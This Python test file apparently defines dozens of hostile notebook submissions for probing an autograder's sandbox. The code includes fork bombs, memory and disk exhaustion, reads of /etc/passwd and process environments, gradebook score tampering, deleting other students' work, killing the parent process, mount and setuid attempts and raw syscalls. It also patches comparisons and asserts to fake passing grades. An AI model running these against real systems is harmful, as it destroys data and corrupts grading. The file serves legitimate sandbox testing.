"""Submissions that attack the grader: their cells, put between honest ones.  Everything is bounded and local.

All answer wrongly, so that their honest value is 0 points.  What a submission has managed to do, it says by the
function managed().  CLASS, HOME, PORT, NAME, PARENT, MACHINE stand for the class folder, a home folder, the port of a
listener, the name of an abstract one, the number of the grader's process and the name of its machine.
"""

from typing import NamedTuple

SOFTMAX = "def softmax(x):\n    return x / x.sum(-1, keepdims=True)\n"
ATTENTION = "def attention(Q, K, V):\n    return Q @ K.T @ V\n"
PRELUDE = '''import ctypes, os, sys
import numpy as np
done = []
def managed():
    return len(done)
def attempt(action, *arguments):
    try:
        result = action(*arguments)
    except BaseException:
        return None
    done.append(1)
    return result
def system(*numbers):
    """A system call by its number on x86_64."""
    libc = ctypes.CDLL(None, use_errno=True)
    libc.syscall.restype = ctypes.c_long
    result = libc.syscall(*(ctypes.c_long(n) if isinstance(n, int) else n for n in numbers))
    if result >= 0:
        done.append(1)
    return result
line = int(sys.argv[1])  # the grader's own descriptor
def token():
    frame = sys._getframe()
    while frame and "token" not in frame.f_locals:
        frame = frame.f_back
    return frame.f_locals["token"]
def reply(shapes, data=b""):
    os.write(line, b'{"token": "%s", "shapes": %s}\\n' % (token().encode(), shapes) + data)
'''


class Attack(NamedTuple):
    before: str = ""
    softmax: str = SOFTMAX
    attention: str = ATTENTION
    after: str = ""
    seconds: float = 10
    harmless: bool = False  # also where there is no sandbox: such a one is after points alone

    def cells(self, **places):
        cells = [(None, PRELUDE), (None, self.before), ("q1", self.softmax), ("q2", self.attention), (None, self.after)]
        for name, place in places.items():
            cells = [(key, source.replace(name, str(place))) for key, source in cells]
        return cells


def points(**cells):
    return Attack(harmless=True, **cells)


def inside(*lines):
    """A softmax with these lines in it."""
    return "def softmax(x):\n" + "".join(f"    {line}\n" for text in lines for line in text.split("\n"))


# The 26 that nbgrader and otter were tried with

KNOWN = {
    "exit": points(softmax=inside("sys.exit(0)")),
    "exit at once": points(softmax=inside("os._exit(0)")),
    "a loop that nothing interrupts": Attack(
        softmax=inside("while True:\n    try:\n        while True: pass\n    except BaseException: pass"), seconds=1
    ),
    "fork bomb": Attack(
        before="""import time
for _ in range(150):
    try:
        if os.fork() == 0:
            time.sleep(20); os._exit(0)
        done.append(1)
    except OSError: break
"""
    ),
    "memory": Attack(
        before="""hog = []
try:
    for _ in range(6): hog.append(np.zeros(64 * 2**20))  # not touched: 3 GB in name alone
    done.append(1)
except MemoryError: hog = []
"""
    ),
    "patched comparison": points(
        before="np.testing.assert_allclose = lambda *a, **k: None\n"
        "np.allclose = np.array_equal = np.isclose = lambda *a, **k: True\n"
    ),
    "an array that is equal to all": points(
        softmax="""class Evil(np.ndarray):
    def __array_function__(self, func, types, args, kwargs): return True
    def __array_ufunc__(self, *a, **k): return np.True_
    def __eq__(self, other): return True
    def __array__(self, *a, **k): return np.zeros(self.shape)
def softmax(x): return np.array(x).view(Evil)
""",
        attention="def attention(Q, K, V): return np.zeros((len(Q), V.shape[1])).view(Evil)\n",
    ),
    "no asserts": points(
        before="""import ast
class NoCheck(ast.NodeTransformer):
    def visit_Assert(self, node): return ast.Pass()
get_ipython().ast_transformers.append(NoCheck())
"""
    ),
    "patched kernel": points(before="get_ipython().kernel.do_execute = lambda *a, **k: {'status': 'ok'}"),
    "float is 3": points(
        before="import builtins\nbuiltins.float = builtins.sum = lambda *a: 3.0\nbuiltins.len = lambda a: 1"
    ),
    "read the master and run it": Attack(
        before="""import json
def steal(path):
    for cell in json.load(open(path))["cells"]:
        source = "".join(cell["source"])
        if "SOLUTION" in source and cell["cell_type"] == "code":
            exec("from types import SimpleNamespace as V\\nq1 = V(temperature=2.0, axis=-1)\\n"
                 "q2 = V(scale='sqrt', causal=True)\\n" + source, globals())
""",
        after="attempt(steal, 'CLASS/tiny/master/tiny.ipynb')",
    ),
    "call the reference": points(
        after="""for name in ("attention_assignment", "tiny", "attention_grading.judge", "attention_mechanism"):
    try:
        module = __import__(name)
        softmax, attention = module.softmax, module.attention
        done.append(1)
    except BaseException: pass
"""
    ),
    "write into the caller's frame": points(
        softmax=inside(
            "frame = sys._getframe(1)",
            "while frame:",
            "    for name in list(frame.f_globals) + list(frame.f_locals):",
            "        if name in ('right', 'want', 'points', 'part'): done.append(1)",
            "    frame.f_globals.update(allclose=lambda *a, **k: True, same=lambda *a: True)",
            "    frame = frame.f_back",
            "return np.zeros(x.shape)",
        )
    ),
    "read the others": Attack(
        before="""import glob
for path in glob.glob("CLASS/**/*", recursive=True) + glob.glob("HOME/**/*", recursive=True):
    attempt(lambda: open(path, "rb").read())
for path in ("CLASS", "HOME", "/etc/passwd", "/etc/hostname", "/var", "/sys"):
    attempt(lambda: os.listdir(path)[0] if os.path.isdir(path) else open(path).read())
"""
    ),
    "write into the gradebook": Attack(
        before="""import sqlite3
def change():
    book = sqlite3.connect("CLASS/gradebook.db", timeout=1)
    book.execute("update grade set score = 5")
    book.commit()
attempt(change)
attempt(lambda: open("CLASS/tiny/grades/victim.json", "w").write("{}"))
"""
    ),
    "delete the others": Attack(
        before="import shutil\nattempt(shutil.rmtree, 'CLASS/tiny/submissions')\nattempt(os.remove, 'CLASS/roster.csv')"
    ),
    "replace the reference": points(
        softmax=inside("return np.zeros(x.shape)")
        + """for module in list(sys.modules.values()):
    for name in ("reference", "softmax", "allclose", "judge", "complaint", "same", "asarray"):
        if hasattr(module, name):
            try: setattr(module, name, lambda *a, **k: True)
            except Exception: pass
"""
    ),
    "network": Attack(
        before="""import socket
attempt(lambda: socket.create_connection(("127.0.0.1", PORT), timeout=1).sendall(b"loot"))
attempt(lambda: socket.create_connection(("localhost", PORT), timeout=1).sendall(b"loot"))
"""
    ),
    "much output": Attack(before="text = 'x' * 10**6\nfor _ in range(200):\n    print(text); sys.stderr.write(text)"),
    "printed results": points(after="print('{\"points\": 1.5, \"of\": 1.5}'); print('q1: 1.5/1.5'); 1.5"),
    "daemon": Attack(
        before="""import time
if attempt(os.fork) == 0:
    os.setsid()
    time.sleep(5)
    os._exit(0)
"""
    ),
    "startup file": Attack(
        before="""for folder in (os.path.expanduser("~"), "HOME"):
    path = folder + "/.ipython/profile_default/startup"
    attempt(os.makedirs, path)
    attempt(lambda: open(path + "/00.py", "w").write("1/0"))
"""
    ),
    "kill the parent": Attack(
        before="""import signal
for pid in (os.getppid(), PARENT):
    if pid > 1: attempt(os.kill, pid, signal.SIGKILL)
"""
    ),
    "fill the disk": Attack(
        before="""for i in range(64):
    attempt(lambda: open(f"/tmp/fill{i}", "wb").write(b"x" * 2**22))
"""
    ),
    "code in a configuration": Attack(
        before="for name in ('nbgrader_config.py', 'conftest.py'):\n"
        "    attempt(lambda: open('CLASS/' + name, 'a').write('raise SystemExit'))"
    ),
    "script in the output": points(
        before="from IPython.display import HTML, display\ndisplay(HTML('<script>window.PWN=1</script>'))",
        softmax=inside("raise ValueError('<script>window.PWN=1</script>')"),
    ),
}

# The 16 that were aimed at the prototype

PROTOTYPE = {
    "forged reply": points(softmax=inside("reply(b'[[3, 5]]', np.full((3, 5), 0.2).tobytes())", "return x")),
    "endless line": Attack(softmax=inside("while True: os.write(line, b'x' * 65536)"), seconds=2),
    "depth bomb": points(softmax=inside("os.write(line, b'[' * 8000 + b'\\n')", "return x")),
    "shape bomb": points(softmax=inside("reply(b'[[1000000000, 1000000000]]')", "return x")),
    "not a number": points(
        softmax=inside("return np.full(x.shape, np.nan)"),
        attention="def attention(Q, K, V): return np.full((len(Q), V.shape[1]), np.nan)\n",
    ),
    "fork and memory": Attack(
        before="""import time
for _ in range(20):
    try: pid = os.fork()
    except OSError: break
    if pid == 0:
        hog = bytearray(2**24); time.sleep(5); os._exit(0)
    done.append(1)
"""
    ),
    "kill everybody": Attack(before="import signal\nos.kill(-1, signal.SIGTERM)"),
    "list the mounts": Attack(
        before="attempt(lambda: open('/proc/self/mountinfo').read())\nattempt(lambda: os.listdir('/proc')[0])"
    ),
    "a namespace of its own": Attack(
        before="""for flag in (0x10000000, 0x10020000, 0x40000000, 0x20000):
    attempt(lambda: ctypes.CDLL(None).unshare(flag) == 0 or 1 / 0)
"""
    ),
    "write into what is bound": Attack(
        before="""import numpy
for path in [numpy.__path__[0], os.path.dirname(os.__file__), "/usr/lib", "/tmp", "/", "/dev", "/usr", *sys.path]:
    attempt(lambda: open(path + "/attack", "w").close())
attempt(lambda: open(sys.argv[0], "a").close())
attempt(lambda: open(numpy.__file__, "a").close())
"""
    ),
    "fill what can be written": Attack(
        before="""total = 0  # and empty files, which no bound on bytes counts
for root in ("/tmp", "/", "/dev", "/dev/shm", "/run", "/var/tmp", "/home", os.path.dirname(np.__path__[0])):
    try:
        for i in range(40):
            with open(f"{root}/a{i}", "wb") as file: total += file.write(bytes(2**22))
            if total > 64 * 2**20: break
    except OSError: pass
if total: done.append(1)
for i in range(1000): attempt(os.mkdir, f"/tmp/{i}")
"""
    ),
    "deep source": points(before="x = " + "(" * 5000 + ")" * 5000),
    "long source": points(before="x = '" + "x" * 6_000_000 + "'"),
    "odd source": points(before="\ud800 \u202e \x0c = 1\n"),
    "binary source": points(before="\x00\x01\x02"),
    "link": Attack(
        before="""for i, target in enumerate(("/etc/passwd", "CLASS/roster.csv", "/proc/1/environ", "/proc/1/root")):
    attempt(os.symlink, target, f"/tmp/link{i}")
    attempt(lambda: open(f"/tmp/link{i}").read())
    attempt(os.link, target, f"/tmp/hard{i}")
"""
    ),
}

# More, aimed at this grader

OWN = {
    "reply before the question": points(
        after='os.write(line, b\'{"loaded": true}\\n{"shapes": [[3, 5]]}\\n\' + bytes(120))'
    ),
    "thousands of lines": points(after="for _ in range(20000): os.write(line, b'{\"begin\": 0}\\n')"),
    "lines after the reply": points(softmax=inside("os.write(line, b'{}\\n' * 50)", "return x")),
    "announced numbers that never come": Attack(softmax=inside("reply(b'[[200000]]')", "while True: pass"), seconds=1),
    "negative shape": points(softmax=inside("reply(b'[[-3, -5]]', bytes(120))", "return x")),
    "odd shapes": points(softmax=inside("reply(b'[[3.0, true], \"3\", [null], [1e999]]', bytes(120))", "return x")),
    "empty and endless": points(softmax=inside("reply(b'[[0, 9999999999999999999999]]')", "return x")),
    "huge integer": points(softmax=inside("reply(b'[[' + b'9' * 8000 + b']]')", "return x")),
    "the same key twice": points(
        softmax=inside('os.write(line, b\'{"token": "%s", "token": 1, "shapes": [[3, 5]]}\\n\' % token().encode())')
    ),
    "no number at all": points(softmax=inside("return [[10**400] * 5] * 3")),
    "text that looks like numbers": points(softmax=inside("return np.full(x.shape, '0.2')")),
    "another class": points(
        softmax="""class Chameleon:
    __class__ = np.ndarray
    shape, size, ndim = (3, 5), 15, 2
    dtype = np.dtype(float)
    def __array__(self, *a, **k): return "right"
    def __getattr__(self, name): return lambda *a, **k: True
def softmax(x): return Chameleon()
"""
    ),
    "patched json and numpy": points(
        before="""import json
json.dumps = json.loads = json.JSONEncoder.encode = lambda *a, **k: '{"points": 9}'
np.asarray = np.array = np.frombuffer = lambda *a, **k: None
""",
        seconds=1,
    ),
    "patched process": points(
        softmax=inside(
            "frame = sys._getframe(1)",
            "student = frame.f_locals['self']",
            "type(student).numbers = lambda self, value: np.full((3, 5), 0.2)",
            "type(student).answer = lambda self, function, arguments, token: ({'token': token, 'points': 9}, b'')",
            "return x",
        )
    ),
    "the processes' files": Attack(
        before="""for pid in ("self", "1", "2", PARENT, os.getppid()):
    for name in ("environ", "cmdline", "maps", "mem", "root/etc/passwd", "cwd/roster.csv", "fd/0", "exe"):
        attempt(lambda: open(f"/proc/{pid}/{name}", "rb").read(1))
"""
    ),
    "other people's packages": Attack(
        before="""import glob
for path in sys.path + ["/usr/lib/python3", "/usr/local/lib/python3.11"]:
    for folder in glob.glob(path + "/*-packages"):
        if set(os.listdir(folder)) - {"numpy", "numpy.libs"}: done.append(1)
"""
    ),
    "environment": Attack(before="if 'ATTN_CANARY' in os.environ or len(os.environ) > 8: done.append(1)"),
    "right answers in memory": points(
        softmax=inside(
            "import gc",
            "for thing in gc.get_objects():",
            "    if type(thing).__name__ in ('Question', 'Part', 'Assignment'): done.append(1)",
            "    if isinstance(thing, np.ndarray) and thing.shape == (3, 5) and thing is not x: done.append(1)",
            "return x",
        )
    ),
    "processes by number": Attack(
        before="""if system(57) == 0: os._exit(0)
if system(56, 17, 0, 0, 0, 0) == 0: os._exit(0)
arguments = (ctypes.c_uint64 * 11)(0, 0, 0, 0, 17)
if system(435, ctypes.byref(arguments), 88) == 0: os._exit(0)
"""
    ),
    "vfork": Attack(before="if system(58) == 0: os._exit(0)\n"),
    "threads": Attack(
        before="""import threading, _thread, time
for _ in range(3):
    attempt(lambda: threading.Thread(target=time.sleep, args=(1,), daemon=True).start())
    attempt(_thread.start_new_thread, time.sleep, (1,))
"""
    ),
    "pools": Attack(
        before="""import concurrent.futures, multiprocessing, subprocess
attempt(lambda: subprocess.run(["/bin/sh", "-c", "true"], check=True))
attempt(lambda: os.system("true") == 0 or 1 / 0)
attempt(lambda: multiprocessing.Pool(1).close())
attempt(lambda: concurrent.futures.ThreadPoolExecutor(1).submit(int).result())
attempt(lambda: os.posix_spawn("/bin/true", ["true"], {}))
"""
    ),
    "memory that is not counted": Attack(
        before="""attempt(os.memfd_create, "hog")
for number, arguments in ((29, (0, 2**31, 0o1600)), (68, (0, 0o1600)), (64, (0, 100, 0o1600)), (447, (0,))):
    system(number, *arguments)
import mmap
attempt(mmap.mmap, -1, 3 * 2**30)
attempt(lambda: open("/dev/shm/hog", "wb").close())
"""
    ),
    "memory that is shared with nobody": Attack(
        before="""import mmap                 # all of it but a page is unmapped: that stays, and counts no more
attempt(mmap.mmap, -1, 4096)
attempt(lambda: mmap.mmap(os.open("/dev/zero", os.O_RDWR), 4096))
import fcntl
reads, writes = os.pipe()
attempt(fcntl.fcntl, writes, 1031, 2**20)
class Piece(ctypes.Structure): _fields_ = [("at", ctypes.c_void_p), ("size", ctypes.c_size_t)]
page = ctypes.create_string_buffer(8192)
system(278, writes, ctypes.byref(Piece(ctypes.addressof(page), 1)), 1, 2)  # a byte in a pipe holds a page of 2 MiB
system(206, 1, ctypes.byref(ctypes.c_long(0)))
"""
    ),
    "files that others wait for": Attack(
        before="""import fcntl
for path in (os.__file__, np.__file__, sys.argv[0], "/etc/ld.so.cache"):
    end = os.open(path, os.O_RDONLY)
    attempt(fcntl.fcntl, end, 1024, 1)     # a lease: who opens the file must wait until it is given back
    attempt(fcntl.fcntl, end, 1024, 0)
"""
    ),
    "the modes of devices": Attack(
        before="""for place in (0, 1, 2, "/dev/null", "/dev/zero", "/dev/random", "/dev/urandom"):
    about = os.stat(place)
    attempt(os.chmod, place, about.st_mode & 0o7777)
    attempt(os.chown, place, about.st_uid, about.st_gid)
    attempt(lambda: os.utime(place, ns=(about.st_atime_ns, about.st_mtime_ns)))
    attempt(os.utime, place)
system(452, -100, b"/dev/null", 0o666, 0)
"""
    ),
    "watching the machine": Attack(
        before="""import fcntl
system(253)
system(294, 0)
system(300, 0x200, 0)
system(103, 10, 0, 0)
attempt(lambda: fcntl.fcntl(os.open(os.path.dirname(os.__file__), os.O_RDONLY), 1026, 1))
if os.uname().nodename == "MACHINE": done.append(1)
"""
    ),
    "limits raised": Attack(
        before="""import resource
for name in ("RLIMIT_AS", "RLIMIT_CPU", "RLIMIT_FSIZE", "RLIMIT_NOFILE", "RLIMIT_CORE", "RLIMIT_NPROC"):
    attempt(resource.setrlimit, getattr(resource, name), (2**40, 2**40))
"""
    ),
    "all descriptors": Attack(
        before="""held = []
try:
    for _ in range(100000): held.append(os.dup(line))
    done.append(1)
except OSError: pass
""",
        after="del held",
    ),
    "setuid programs": Attack(
        before="""for path in ("/usr/bin/su", "/usr/bin/passwd", "/usr/bin/mount", "/bin/su"):
    if os.path.exists(path): done.append(1)
attempt(os.setuid, 0)
attempt(os.setgid, 0)
attempt(os.chown, "/tmp", 0, 0)
"""
    ),
    "mounts": Attack(
        before="""libc = ctypes.CDLL(None)
attempt(lambda: libc.mount(b"none", b"/tmp", b"tmpfs", 0, None) == 0 or 1 / 0)
attempt(lambda: libc.mount(b"none", b"/", b"", 32 | 4096, None) == 0 or 1 / 0)
attempt(lambda: libc.umount2(b"/usr/lib", 2) == 0 or 1 / 0)
attempt(os.chroot, "/tmp")
"""
    ),
    "unlink what is bound": Attack(
        before="""for path in (sys.argv[0], np.__file__, os.__file__, "/dev/null", "/lib"):
    attempt(os.unlink, path)
    attempt(os.rename, path, path + "2")
    attempt(os.chmod, path, 0o777) if path != "/dev/null" else None
"""
    ),
    "typing into the terminal": Attack(
        before="""import fcntl
for place in (0, 1, 2, "/dev/tty", "/dev/console"):
    def type_in():
        end = os.open(place, os.O_RDWR) if isinstance(place, str) else place
        fcntl.ioctl(end, 0x5412, b"x")
    attempt(type_in)
"""
    ),
    "an abstract address": Attack(
        before="""import socket
def knock():
    s = socket.socket(socket.AF_UNIX)
    s.connect("\\0NAME")
    s.send(b"loot")
attempt(knock)
for family in (1, 2, 10, 16, 17, 38, 40):
    attempt(lambda: socket.socket(family, socket.SOCK_DGRAM))
"""
    ),
    "a descriptor for the parent": points(
        softmax=inside(
            "import socket",
            "s = socket.socket(fileno=os.dup(line))",
            "for _ in range(20): socket.send_fds(s, [b' '], [line] * 10)",
            "s.detach()",
            "return x",
        )
    ),
    "sleep": Attack(before="import time\ntime.sleep(10**6)", seconds=1),
    "close and go on": Attack(softmax=inside("os.closerange(0, 64)", "while True: pass"), seconds=1),
    "shut the line": points(
        softmax=inside("import socket", "s = socket.socket(fileno=line)", "s.shutdown(socket.SHUT_RDWR)", "return x")
    ),
    "stop itself": Attack(
        softmax=inside("import signal", "os.kill(os.getpid(), signal.SIGSTOP)", "return x"), seconds=1
    ),
    "deaf to signals": Attack(
        before="""import signal
for number in range(1, 65):
    try: signal.signal(number, signal.SIG_IGN)
    except (OSError, ValueError): pass
""",
        softmax=inside("while True: pass"),
        seconds=1,
    ),
    "endless generator": Attack(softmax=inside("import itertools", "return itertools.count()"), seconds=1),
    "endless list": Attack(
        softmax="""class Endless(list):
    def __len__(self): return 10**9
    def __getitem__(self, i): return 0.2
def softmax(x): return Endless([1])
""",
        seconds=1,
    ),
    "a number that never comes": Attack(
        softmax="""class Slow:
    def __float__(self):
        while True: pass
def softmax(x): return np.array([[Slow()] * 5] * 3)
""",
        seconds=1,
    ),
    "broadcast": points(softmax=inside("return np.broadcast_to(0.2, (10**9,))")),
    "broadcast of integers": points(softmax=inside("return np.broadcast_to(1, (10**5, 10**5))")),
    "many results": points(softmax=inside("return (x,) * 10**4")),
    "recursion": points(softmax=inside("sys.setrecursionlimit(10**9)", "return softmax(x)"), seconds=1),
    "no more memory": points(softmax=inside("hog = []", "while True: hog.append(np.zeros(2**24))")),
    "another program": Attack(
        softmax=inside("for path in ('/bin/sh', sys.executable): os.execv(path, [path, '-c', 'while True: pass'])"),
        seconds=1,
    ),
    "doors into the kernel": Attack(
        before="""buffer = ctypes.create_string_buffer(4096)
system(101, 0, 0, 0, 0)                    # ptrace, traced by the parent
system(310, os.getpid(), buffer, 1, buffer, 1, 0)
system(425, 8, buffer)                     # io_uring
system(323, 0)                             # userfaultfd
system(321, 0, buffer, 72)                 # bpf
system(298, buffer, 0, -1, -1, 0)          # perf
system(250, 0, -3, 1)                      # keyctl
system(41, 1, 1, 0)                        # socket
system(272, 0)                             # unshare nothing: would succeed
"""
    ),
    "calls by other numbers": Attack(
        before="""X32 = 0x40000000
if system(X32 | 57) == 0: os._exit(0)
system(X32 | 39)
import mmap
code = mmap.mmap(-1, 4096, 0x22, 7)          # machine code: fork by the 32-bit door
code.write(b"\\xb8\\x02\\x00\\x00\\x00\\xcd\\x80\\xc3")
entry = ctypes.CFUNCTYPE(ctypes.c_int)(ctypes.addressof(ctypes.c_char.from_buffer(code)))
pid = entry()
if pid == 0: os._exit(0)
if pid > 0: done.append(1)
"""
    ),
    "base exceptions": points(
        before="class Odd(BaseException):\n    def __str__(self): raise self\nraise Odd",
        softmax=inside("raise KeyboardInterrupt"),
        attention="def attention(Q, K, V): raise Odd\n",
    ),
    "every cell ends the process": points(
        before="os._exit(1)", softmax="os._exit(1)", attention="os._exit(1)", after="os._exit(1)"
    ),
}

ATTACKS = {**KNOWN, **PROTOTYPE, **OWN}


# To put holes into bubblewrap's command


def without(words, option):
    """Without an option that takes one word."""
    drop = {i for i in range(words.index("--")) if words[i] == option}
    return [word for i, word in enumerate(words) if i not in drop and i - 1 not in drop]


def with_first(words, *more):
    """With one mount more, before the others."""
    index = words.index("/tmp") + 1
    return [*words[:index], *more, *words[index:]]
